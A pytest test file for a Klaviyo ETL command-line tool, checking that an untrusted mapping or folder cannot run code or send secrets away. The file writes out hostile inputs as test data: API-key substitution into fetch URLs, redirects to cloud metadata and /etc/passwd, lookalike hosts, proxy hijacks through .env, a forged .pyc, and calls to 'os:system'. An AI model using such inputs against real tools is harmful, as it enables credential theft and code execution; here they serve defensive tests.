"""A mapping or a folder from somebody else runs no code and sends no secret anywhere, unless one agreed to that."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from etl import pipeline
from etl.config import parse_mapping
from etl.errors import ConfigError, ExitCode
from etl.sandbox import SANDBOX_KEY, SandboxServer, SandboxSettings
from tests.support.cli_process import python, start
from tests.support.command_line import told

KEY = "pk_0123456789abcdef0123456789abcdef01"
PLAIN = '[columns]\n"Email" = "email"\n'
CSV = "Email,Name\nann@mapleshop.com,touch stolen\n"


class Ear:
    """A server of somebody else's: it remembers every line and header that reached it."""

    def __init__(self, location: str | None = None) -> None:
        heard: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(f"{self.requestline} {self.headers}")
                if location is not None:
                    self.send_response(302)
                    self.send_header("Location", location)
                    self.end_headers()
                    return
                self.send_response(200)
                self.end_headers()
                self.wfile.write(CSV.encode())

            do_POST = do_HEAD = do_CONNECT = do_GET  # noqa: N815 - names of the protocol

            def log_message(self, *_: object) -> None: ...

        self.heard = heard
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def ear() -> Iterator[Ear]:
    at = Ear()
    yield at
    at.close()


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A folder that somebody sent, beside the settings of whoever got it."""
    folder = tmp_path / "sent"
    folder.mkdir()
    (folder / "people.csv").write_text(CSV, encoding="utf-8")
    return folder


def as_process(folder: Path, *arguments: str, **environment: str) -> tuple[int, str]:
    """Run the command as a process of its own."""
    process = start(folder, *arguments, XDG_CONFIG_HOME=str(folder.parent / "config"), **environment)
    out, err = process.communicate()
    assert "Traceback" not in err, err
    assert process.returncode is not None
    return process.returncode, out + err


def mapping(folder: Path, text: str) -> None:
    (folder / "people.toml").write_text(text, encoding="utf-8")


# --- secrets in the address of a source


@pytest.mark.parametrize(
    "name", ["KLAVIYO_PRIVATE_KEY", "klaviyo_private_key", "KLAVIYO_WEBHOOK_SECRET", "KLAVIYO_ETL_TOKEN"]
)
@pytest.mark.parametrize("listed", ["", 'variables = ["{name}"]\n'])
def test_no_secret_of_ours_is_filled_into_an_address(home: Path, ear: Ear, name: str, listed: str) -> None:
    for address in (
        f'path = "{ear.url}/${{{name}}}/x.csv"',
        f'path = "${{{name}}}"',
        f'path = "{ear.url}/x?k=${{{name}}}"',
    ):
        mapping(home, f"[source]\n{address}\n{listed.format(name=name)}{PLAIN}")
        code, said = told(home, "check", "-m", "people.toml", **{name: KEY})
        assert code == ExitCode.USAGE
        assert KEY not in said
        assert name in said
    assert not ear.heard


@pytest.mark.parametrize("part", ["user", "password", "host", "database", "option", "whole"])
def test_nor_into_any_part_of_a_database_url(home: Path, part: str) -> None:
    url = {
        "user": "postgresql://${KLAVIYO_PRIVATE_KEY}@127.0.0.1:1/d",
        "password": "postgresql://u:${KLAVIYO_PRIVATE_KEY}@127.0.0.1:1/d",
        "host": "postgresql://u@${KLAVIYO_PRIVATE_KEY}/d",
        "database": "postgresql://u@127.0.0.1:1/${KLAVIYO_PRIVATE_KEY}",
        "option": "postgresql://u@127.0.0.1:1/d?application_name=${KLAVIYO_PRIVATE_KEY}",
        "whole": "${KLAVIYO_PRIVATE_KEY}",
    }[part]
    mapping(home, f"[source]\nurl = '{url}'\nquery = 'SELECT 1 ORDER BY 1'\n{PLAIN}")
    code, said = told(home, "check", "-m", "people.toml", KLAVIYO_PRIVATE_KEY=KEY)
    assert (code, KEY in said, "variable-secret" in said) == (ExitCode.USAGE, False, True)


def test_a_secret_of_ours_does_not_leave_under_another_name(home: Path, ear: Ear) -> None:
    """Copied in the environment, or by a line of the folder's .env."""
    mapping(home, f'[source]\npath = "{ear.url}/${{COPY}}/x.csv"\nvariables = ["COPY"]\n{PLAIN}')
    for dotenv, more in (
        ("", {"COPY": f"x{KEY}y"}),
        ("COPY=${KLAVIYO_PRIVATE_KEY}\n", {}),
        ("COPY=${NOTHING:-x}${KLAVIYO_PRIVATE_KEY}\n", {}),
        (f"KLAVIYO_PRIVATE_KEY={KEY}\nCOPY=a${{KLAVIYO_PRIVATE_KEY}}\n", {"KLAVIYO_PRIVATE_KEY": ""}),
    ):
        (home / ".env").write_text(dotenv, encoding="utf-8")
        code, said = told(home, "check", "-m", "people.toml", **{"KLAVIYO_PRIVATE_KEY": KEY, **more})
        assert (code, KEY in said) == (ExitCode.USAGE, False)
    assert not ear.heard


def test_other_variables_leave_only_where_they_are_listed(home: Path, ear: Ear) -> None:
    address = f'[source]\npath = "{ear.url}/${{EXPORT}}/x.csv"\n'
    mapping(home, address + PLAIN)
    code, said = told(home, "check", "-m", "people.toml", EXPORT="s3cr3t")
    assert (code, "s3cr3t" in said, ear.heard) == (ExitCode.USAGE, False, [])
    assert 'variables = ["EXPORT"]' in said
    mapping(home, f'{address}variables = ["EXPORT"]\n{PLAIN}')
    code, said = told(home, "check", "-m", "people.toml", EXPORT="s3cr3t")
    assert (code, "s3cr3t" in said, len(ear.heard)) == (ExitCode.OK, False, 1)
    # It is said before anything is asked, without the value.
    assert said.index(f"Fetching {ear.url}/${{EXPORT}}/x.csv") < said.index("The whole report")


def test_the_user_s_own_settings_list_variables_too(home: Path, ear: Ear) -> None:
    mapping(home, f'[source]\npath = "{ear.url}/${{EXPORT}}/x.csv"\n{PLAIN}')
    settings = home.parent / "config" / "klaviyo-etl"
    settings.mkdir(parents=True)
    (settings / "settings.toml").write_text('variables = ["EXPORT"]\n', encoding="utf-8")
    assert told(home, "check", "-m", "people.toml", EXPORT="s3cr3t")[0] == ExitCode.OK


def test_a_line_of_dotenv_takes_in_nothing_of_the_environment(home: Path, ear: Ear) -> None:
    (home / ".env").write_text(f"HOST={ear.url}\nEXPORT=${{HOST}}/${{CLOUD_SECRET}}/x.csv\n", encoding="utf-8")
    mapping(home, f'[source]\npath = "${{EXPORT}}"\nvariables = ["EXPORT"]\n{PLAIN}')
    code, said = told(home, "check", "-m", "people.toml", CLOUD_SECRET="s3cr3t")
    assert (code, "s3cr3t" in said, ear.heard) == (ExitCode.USAGE, False, [])


@pytest.mark.parametrize("value", ["p@ss w/rd%'\"", "x", "straße-geheim"])
def test_no_message_of_a_database_holds_a_value(home: Path, value: str) -> None:
    mapping(
        home,
        "[source]\nurl = 'postgresql://${U}:${P}@127.0.0.1:5432/${D}'\nvariables = ['U', 'P', 'D']\n"
        f"query = 'SELECT 1 ORDER BY 1'\n{PLAIN}",
    )
    long = f"zq9{value}zq9"
    _, said = told(home, "check", "-m", "people.toml", U=long, P=long, D=long)
    assert "zq9" not in said


def test_a_redirect_leads_to_nothing_unencrypted_elsewhere(home: Path) -> None:
    ears = [Ear("http://files.example.com/x.csv"), Ear("http://169.254.169.254/latest"), Ear("file:///etc/passwd")]
    for ear in ears:
        mapping(home, f'[source]\npath = "{ear.url}/x.csv"\n{PLAIN}')
        code, said = told(home, "check", "-m", "people.toml")
        assert (code, "source-redirect" in said) == (ExitCode.NOT_STARTED, True)
        ear.close()


def test_no_chain_of_addresses_goes_round_the_rules(home: Path, ear: Ear) -> None:
    for path in (f"https://a::{ear.url}/x.csv", f"simplecache::{ear.url}/x.csv", "http://files.example.com/x.csv"):
        mapping(home, f'[source]\npath = "{path}"\n{PLAIN}')
        assert told(home, "check", "-m", "people.toml")[0] == ExitCode.NOT_STARTED
    assert not ear.heard


def test_a_server_gets_no_file_of_this_machine(home: Path) -> None:
    url = "mysql://u@127.0.0.1:1/d?local_infile=1"
    mapping(home, f"[source]\nurl = '{url}'\nquery = 'SELECT 1 ORDER BY 1'\n{PLAIN}")
    assert told(home, "check", "-m", "people.toml")[0] == ExitCode.USAGE


# --- code that a mapping names

STEP = '[columns]\n"Email" = "email"\n"Name" = {{ to = "first_name", transform = [{{ function = "{name}" }}] }}\n'
SCHEMA = '[profile]\nschema = "{name}"\n' + PLAIN
EVIL = "from pathlib import Path\nPath('stolen').touch()\ndef run(text): return text.upper()\n"


@pytest.mark.parametrize("kind", [STEP, SCHEMA], ids=["function", "schema"])
@pytest.mark.parametrize(
    "name",
    [
        "subprocess:getoutput",
        "os:system",
        "os.path:exists",
        "antigravity:x",
        "pandas:eval",
        "..os:system",
        "sub.mine:run",
    ],
)
def test_nothing_that_is_installed_runs(home: Path, kind: str, name: str) -> None:
    (home / "sub").mkdir()
    (home / "sub" / "mine.py").write_text(EVIL, encoding="utf-8")
    (home / "sub" / "__init__.py").write_text(EVIL, encoding="utf-8")
    mapping(home, kind.format(name=name))
    for more in ((), ("--trust",), ("--yes",)):
        code, _ = told(home, "check", "people.csv", *more)
        assert code == ExitCode.USAGE
    assert told(home, "trust", "people.toml")[0] == ExitCode.USAGE
    assert not (home / "stolen").exists()


@pytest.mark.parametrize("kind", [STEP, SCHEMA], ids=["function", "schema"])
def test_code_beside_the_mapping_runs_once_it_is_trusted(home: Path, kind: str) -> None:
    code_file = home / "mine.py"
    text = "from schemas.profile import Profile\nimport helper\ndef run(text): return text.upper()\n"
    code_file.write_text(text, encoding="utf-8")
    helper = home / "helper.py"
    helper.write_text("from pathlib import Path\nPath('ran').touch()\n", encoding="utf-8")
    mapping(home, kind.format(name="mine:run" if kind is STEP else "mine:Profile"))
    ran = home / "ran"

    code, said = told(home, "check", "people.csv", "--non-interactive")
    assert (code, ran.exists()) == (ExitCode.USAGE, False)
    assert "klaviyo-etl trust people.toml" in said
    assert "mine.py" in said
    assert "helper.py" in said

    assert told(home, "check", "people.csv", "--trust")[0] == ExitCode.OK
    assert ran.exists()
    ran.unlink()
    assert told(home, "check", "people.csv")[0] == ExitCode.USAGE  # for that once

    assert told(home, "trust", "people.toml")[0] == ExitCode.OK
    assert told(home, "check", "people.csv")[0] == ExitCode.OK
    assert told(home, "run", "people.csv", "--sandbox", "--yes", "--quiet")[0] == ExitCode.OK
    assert told(home, "plan", "people.csv", "--sandbox", "--yes", "--quiet")[0] == ExitCode.OK

    for changed, other in ((code_file, text + "\n"), (helper, "x = 1\n"), (home / "people.toml", None)):
        before = changed.read_text(encoding="utf-8")
        changed.write_text(other if other is not None else f"{before}# more\n", encoding="utf-8")
        ran.unlink(missing_ok=True)
        for command in ("check", "run", "plan"):
            code, _ = told(home, command, "people.csv", *([] if command == "check" else ["--sandbox", "--yes"]))
            assert (code, ran.exists()) == (ExitCode.USAGE, False)
        changed.write_text(before, encoding="utf-8")
        assert told(home, "check", "people.csv")[0] == ExitCode.OK
    assert told(home, "trust", "--revoke", "people.toml")[0] == ExitCode.OK
    assert told(home, "check", "people.csv")[0] == ExitCode.USAGE


def test_neither_a_link_nor_a_compiled_file_passes_for_code_beside_the_mapping(home: Path) -> None:
    mapping(home, STEP.format(name="mine:run"))
    outside = home.parent / "mine.py"
    outside.write_text(EVIL, encoding="utf-8")
    (home / "mine.py").symlink_to(outside)
    assert told(home, "check", "people.csv", "--trust")[0] == ExitCode.USAGE
    (home / "mine.py").unlink()
    (home / "mine.pyc").write_bytes(b"")
    (home / "mine").mkdir()
    (home / "mine" / "__init__.py").write_text(EVIL, encoding="utf-8")
    assert told(home, "check", "people.csv", "--trust")[0] == ExitCode.USAGE
    # A compiled file that claims to be of the source beside it.
    (home / "mine.py").write_text("def run(text): return text\n", encoding="utf-8")
    (home / "evil.py").write_text(EVIL, encoding="utf-8")
    script = (
        "import py_compile, os, shutil, importlib.util as u; c = py_compile.compile('evil.py');"
        "m = os.stat('mine.py'); d = bytearray(open(c, 'rb').read());"
        "d[8:12] = int(m.st_mtime).to_bytes(4, 'little'); d[12:16] = m.st_size.to_bytes(4, 'little');"
        "open(u.cache_from_source('mine.py'), 'wb').write(d)"
    )
    python(home, "-c", script).communicate()
    assert list((home / "__pycache__").glob("mine.*"))
    assert as_process(home, "check", "people.csv", "--trust")[0] == ExitCode.OK
    assert not (home / "stolen").exists()


def test_a_file_named_like_a_library_is_not_taken_for_it(home: Path) -> None:
    for name in ("orjson", "xlsxwriter", "click", "fsspec", "json"):
        (home / f"{name}.py").write_text(EVIL, encoding="utf-8")
    mapping(home, PLAIN)
    assert as_process(home, "check", "people.csv")[0] == ExitCode.OK
    assert not (home / "stolen").exists()


def test_the_same_for_events(home: Path) -> None:
    (home / "mine.py").write_text(EVIL, encoding="utf-8")
    mapping(
        home,
        '[event]\nmetric = "X"\n[columns]\n"Email" = "email"\n"When" = "time"\n'
        '"Name" = { to = "properties.n", transform = [{ function = "mine:run" }] }\n',
    )
    (home / "people.csv").write_text("Email,When,Name\nann@mapleshop.com,2026-01-01T00:00:00Z,x\n", encoding="utf-8")
    assert told(home, "events", "people.csv", "--check")[0] == ExitCode.USAGE
    assert told(home, "events", "people.csv", "--sandbox", "--yes")[0] == ExitCode.USAGE
    assert not (home / "stolen").exists()
    assert told(home, "trust", "people.toml")[0] == ExitCode.OK
    assert told(home, "events", "people.csv", "--check")[0] == ExitCode.OK
    assert (home / "stolen").exists()


def test_worker_processes_run_what_was_trusted_and_nothing_else(home: Path) -> None:
    """The file is changed once it was read: the workers judge by the bytes that were trusted.

    Where all is judged before a worker is ready, none has run, and it is tried again.
    """
    mine = (
        "import os, pathlib\n"
        "pathlib.Path(f'ran-{os.getpid()}').touch()\n"
        "pathlib.Path('mine.py').write_text(\"open('stolen', 'w')\")\n"
        "def run(text): return text.upper()\n"
    )
    mapping(home, STEP.format(name="mine:run"))
    rows = "".join(f"p{number}@mapleshop.com,n{number}\n" for number in range(420_000))
    (home / "people.csv").write_text("Email,Name\n" + rows, encoding="utf-8")
    for _ in range(5):
        (home / "mine.py").write_text(mine, encoding="utf-8")
        code, _ = as_process(home, "check", "people.csv", "--trust", KLAVIYO_ETL_WORKERS="1")
        assert (code, (home / "stolen").exists()) == (ExitCode.OK, False)
        ran = list(home.glob("ran-*"))
        if len(ran) > 1:
            break
        ran[0].unlink()
    assert len(ran) == 2


def test_a_program_s_own_mapping_is_its_own_code(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(home)
    data: dict[str, Any] = {
        "columns": {"Email": "email", "Name": {"to": "first_name", "transform": [{"function": "textwrap:dedent"}]}}
    }
    context = pipeline.Context.create(output=home / "runs", workers=0)
    for given in (data, parse_mapping(data)):
        assert pipeline.check(home / "people.csv", given, context=context).tally.read == 1
    mapping(home, STEP.format(name="mine:run"))
    (home / "mine.py").write_text(EVIL, encoding="utf-8")
    with pytest.raises(ConfigError) as refused:
        pipeline.check(home / "people.csv", home / "people.toml", context=context)
    assert refused.value.code == "code-not-trusted"


# --- where the key goes


def test_a_dotenv_does_not_say_where_the_key_goes(home: Path, ear: Ear) -> None:
    mapping(home, PLAIN)
    for line in (
        f"KLAVIYO_BASE_URL={ear.url}",
        f"export KLAVIYO_BASE_URL='{ear.url}'",
        f"https_proxy={ear.url}",
        f"ALL_PROXY={ear.url}",
    ):
        (home / ".env").write_text(f"{line}\n", encoding="utf-8")
        name = line.removeprefix("export ").partition("=")[0]
        for command in (("doctor",), ("run", "people.csv", "--yes"), ("lists", "find"), ("check", "people.csv")):
            code, said = told(home, *command, KLAVIYO_PRIVATE_KEY=KEY)
            assert (code, name in said, KEY in said) == (ExitCode.USAGE, True, False)
    assert not ear.heard


def test_what_else_a_dotenv_decides_is_said(home: Path) -> None:
    mapping(home, PLAIN)
    (home / ".env").write_text("KLAVIYO_REVISION=2026-07-15\nKLAVIYO_ETL_STATE=other.db\n", encoding="utf-8")
    code, said = told(home, "check", "people.csv")
    assert code == ExitCode.OK
    assert "By .env in this folder: KLAVIYO_REVISION, KLAVIYO_ETL_STATE" in said


@pytest.mark.parametrize(
    "url",
    [
        "https://klaviyo.example.com",
        "https://a.klaviyo.com.example.com",
        "https://a.klaviyo.com@example.com",
        "https://example.com\\.klaviyo.com",
        "https://example.com#.klaviyo.com",
        "https://example.com?.klaviyo.com",
        "http://a.klaviyo.com",
        "http://127.0.0.1.example.com",
        "https://evilklaviyo.com",
        "https://0.0.0.0",
        "https://a.klaviyo.com\t.example.com",
    ],
)
def test_the_key_goes_to_klaviyo_or_to_this_machine(home: Path, url: str) -> None:
    for command in (("doctor",), ("lists", "find")):
        code, said = told(home, *command, KLAVIYO_PRIVATE_KEY=KEY, KLAVIYO_BASE_URL=url)
        assert (code, "base-url" in said, KEY in said) == (ExitCode.USAGE, True, False)


def test_another_host_is_allowed_by_the_user_s_own_settings_only(home: Path) -> None:
    settings = home.parent / "config" / "klaviyo-etl"
    settings.mkdir(parents=True)
    text = 'allow_base_url = ["https://klaviyo.example.invalid"]\n'
    (home / "settings.toml").write_text(text, encoding="utf-8")
    reach = {"KLAVIYO_PRIVATE_KEY": KEY, "KLAVIYO_BASE_URL": "https://klaviyo.example.invalid"}
    assert told(home, "doctor", **reach)[0] == ExitCode.USAGE
    (settings / "settings.toml").write_text(text, encoding="utf-8")
    code, said = told(home, "doctor", **reach)
    assert (code, "klaviyo.example.invalid" in said) == (ExitCode.NOT_STARTED, True)


def test_doctor_and_run_name_the_host(home: Path) -> None:
    mapping(home, PLAIN)
    with SandboxServer(SandboxSettings(limits="off", job_seconds=0.0)) as server:
        reach = {"KLAVIYO_PRIVATE_KEY": SANDBOX_KEY, "KLAVIYO_BASE_URL": server.url}
        for command in (("doctor",), ("run", "people.csv", "--yes")):
            assert "127.0.0.1" in told(home, *command, **reach)[1]


def test_the_key_never_goes_in_plain_through_a_proxy(home: Path, ear: Ear) -> None:
    """The base URL of a rehearsal is http: a proxy of the environment would read the key."""
    mapping(home, PLAIN)
    with SandboxServer(SandboxSettings(limits="off", job_seconds=0.0)) as server:
        reach = {"KLAVIYO_PRIVATE_KEY": SANDBOX_KEY, "KLAVIYO_BASE_URL": server.url}
        proxies = dict.fromkeys(("HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"), ear.url)
        code, _ = told(home, "run", "people.csv", "--yes", **reach, **proxies, NO_PROXY="", no_proxy="")
        assert code == ExitCode.OK
        assert sum(server.sandbox.requests.values()) > 0
    assert not ear.heard


def test_what_is_trusted_is_kept_for_nobody_else_to_see(home: Path) -> None:
    (home / "mine.py").write_text("def run(text): return text\n", encoding="utf-8")
    mapping(home, STEP.format(name="mine:run"))
    assert told(home, "trust", "people.toml")[0] == ExitCode.OK
    (record,) = (home.parent / "config" / "klaviyo-etl" / "trusted").iterdir()
    assert record.stat().st_mode & 0o077 == 0
    assert json.loads(record.read_text(encoding="utf-8"))["mapping"] == str(home / "people.toml")
